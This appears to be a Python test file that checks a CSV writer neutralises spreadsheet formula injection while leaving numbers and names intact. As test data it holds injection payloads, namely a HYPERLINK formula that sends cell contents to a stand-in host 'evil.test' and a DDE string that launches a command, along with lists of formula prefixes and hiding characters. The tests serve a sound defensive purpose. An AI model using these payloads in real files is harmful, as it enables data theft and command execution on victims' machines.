"""CSV formulas: no cell of any file of ours is run by a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

from itertools import product
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as any_of
from tests.faults.house import many
from tests.faults.spreadsheet import cells_that_run, runs

from ripeline.domain.formulas import safe, unsafe
from ripeline.pages.csv import Style, written

pytestmark = pytest.mark.row

#: What a formula may begin with, and what may stand before it.
BEGINS: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "\t", "\r", "\n")
BEFORE: Final = (
    "",
    " ",
    "\u00a0",
    "\u3000",
    '"',
    '""',
    "'",
    "''",
    "\ufeff",
    "\u200b",
    "\u00ad",
    "\0",
    "\x01",
    "\u202e",
    ' "',
    "\r\n ",
)
BODIES: Final = ('HYPERLINK("https://evil.test/?"&A1;"x")', "cmd|' /C calc'!A0", "1+1", "SUM(A1)", "x")
STYLES: Final = (Style(), Style(";", ","))


def test_no_cell_runs_whatever_it_begins_with_and_wherever_it_is_parted(record_property: object) -> None:
    cells = [before + begins + body for before, begins, body in product(BEFORE, BEGINS, BODIES)]
    within = [
        f'{open}a{separator}{cell}"' for cell in cells[:: many(7, 1)] for open, separator in product(('"', ""), ";,\n")
    ]
    for style in STYLES:
        file = b"".join(written([[cell, "x"] for cell in (*cells, *within)], style))
        assert cells_that_run(file, style.separator) == []
    assert all(runs(cell.lstrip("'")) for cell in cells if "\t" not in cell and "\n" not in cell and "\r" not in cell)


@pytest.mark.parametrize("style", STYLES)
def test_numbers_and_words_stay_as_they_are(style: Style) -> None:
    (line,) = (
        b"".join(written([[13, -2.5, "-5", "12.5", "O'Neill", "a=b", "d'Artagnan"]], style))
        .decode("utf-8-sig")
        .splitlines()
    )
    said = ["13", "-2.5", "-5", "12.5", "O'Neill", "a=b", "d'Artagnan"]
    assert line == style.separator.join(
        each.replace(".", ",") if each == "-2.5" and style.decimal == "," else each for each in said
    )


@given(
    any_of.text(
        any_of.sampled_from(
            ["=", "+", "-", "@", "\t", "\r", "\n", "＝", " ", "'", '"', ",", ";", "a", "1", ".", "\ufeff"]
        ),
        max_size=9,
    )
)
@settings(max_examples=many(100, 3_000))
def test_what_was_made_safe_can_be_made_what_it_was(text: str) -> None:
    for separator in ",;":
        assert unsafe(safe(text, separator), separator) == text
        assert not runs(safe(text, separator))
